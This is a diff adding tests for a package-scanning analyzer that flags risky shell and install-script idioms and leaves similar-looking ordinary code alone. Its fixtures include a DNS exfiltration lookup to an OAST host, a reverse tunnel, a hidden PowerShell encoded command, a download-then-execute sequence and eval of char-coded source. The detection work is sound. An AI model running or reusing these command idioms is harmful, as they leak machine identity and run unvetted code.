@@ -1,0 +1,56 @@
+/** The near misses of the newer recall rules: ordinary code with the same words stays quiet. */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { analyzeContent } from '../../src/analyzers/content/index.js';
+import { scanShell } from '../../src/analyzers/content/shell-scan.js';
+import { filesOf } from './helpers.js';
+
+const manifest = (scripts?: Record<string, string>, extra: Record<string, unknown> = {}): string => JSON.stringify({ name: 'p', version: '1.0.0', ...(scripts ? { scripts } : {}), ...extra });
+const rules = async (entries: Record<string, string>): Promise<string[]> => (await analyzeContent(filesOf(entries), 'p')).findings.map((f) => `${f.rule}:${f.severity}`);
+
+test('shell: bare OAST / tunnel host names are endpoints, ordinary dotted words are not', () => {
+  const eps = (s: string) => scanShell(s, 'x.sh').endpoints.map((e) => `${e.category}:${e.host}`);
+  assert.deepEqual(eps('nslookup $(whoami).$(hostname).abc.oast.fun'), ['oast:abc.oast.fun']);
+  assert.deepEqual(eps('ssh -R 80:localhost:3000 serveo.net'), ['tunnel:serveo.net']);
+  assert.deepEqual(eps('node scripts/build.js && cp lib/index.d.ts dist/'), []);
+});
+
+test('shell: PowerShell -EncodedCommand is decode-to-shell; a short -e flag value is not', () => {
+  const idioms = (s: string) => scanShell(s, 'x.cmd').hits.map((h) => h.idiom);
+  assert.deepEqual(idioms('powershell -nop -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGQAZQBmAGEAbgBnAGUAZAAnAA=='), ['decode-to-shell']);
+  assert.deepEqual(idioms('powershell -ExecutionPolicy Bypass -File build.ps1 -e Release'), []);
+});
+
+test('shell: a downloaded archive that is unpacked, then a different file made executable, is not download-exec', () => {
+  const idioms = (s: string) => scanShell(s, 'x.sh').hits.map((h) => h.idiom);
+  assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool.tar.gz -o tool.tar.gz\ntar -xzf tool.tar.gz\nchmod +x bin/tool'), []);
+  assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool -o tool\necho done\nchmod 755 tool'), ['download-exec']);
+});
+
+test('install: machine identity without an exfiltration endpoint is not install-exfiltration', async () => {
+  assert.deepEqual(await rules({ 'package.json': manifest({ postinstall: 'echo "built on $(hostname) by $(whoami)"' }) }), []);
+  assert.deepEqual(await rules({ 'package.json': manifest({ preinstall: 'nslookup $(hostname).corp.example.com || true' }) }), []);
+});
+
+test('binding.gyp with ordinary command expansions: implicit install script, no finding', async () => {
+  const gyp = '{ "targets": [ { "target_name": "a", "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"], "libraries": ["<!@(pkg-config --libs glib-2.0)"] } ] }\n';
+  const { findings, facts } = await analyzeContent(filesOf({ 'package.json': manifest(), 'binding.gyp': gyp }), 'p');
+  assert.deepEqual(findings.map((f) => f.rule), []);
+  assert.equal(facts.installScripts[0]?.implicit, 'binding.gyp');
+  const withScript = await analyzeContent(filesOf({ 'package.json': manifest({ install: 'prebuild-install || node-gyp rebuild' }), 'binding.gyp': gyp }), 'p');
+  assert.deepEqual(withScript.facts.installScripts.map((s) => s.implicit), [undefined], 'an explicit install script replaces the implicit one');
+  const optedOut = await analyzeContent(filesOf({ 'package.json': manifest(undefined, { gypfile: false }), 'binding.gyp': gyp }), 'p');
+  assert.deepEqual(optedOut.facts.installScripts, []);
+});
+
+test('fromCharCode in a UTF-8 decoder and short code lists next to eval: no encoded-exec', async () => {
+  const js = [
+    'function utf8(bytes) { return String.fromCharCode.apply(null, bytes); }',
+    'const sep = String.fromCharCode(44, 59);',
+    'const g = new Function("return this")();',
+    'module.exports = { utf8, sep, run: (src) => eval(src) };',
+  ].join('\n');
+  assert.deepEqual(await rules({ 'package.json': manifest(), 'index.js': js }), []);
+  const codes = [...'console.log(1)'].map((c) => c.charCodeAt(0)).join(',');
+  assert.deepEqual(await rules({ 'package.json': manifest(), 'index.js': `eval(String.fromCharCode(${codes}));\n` }), ['content/encoded-exec:high']);
+});
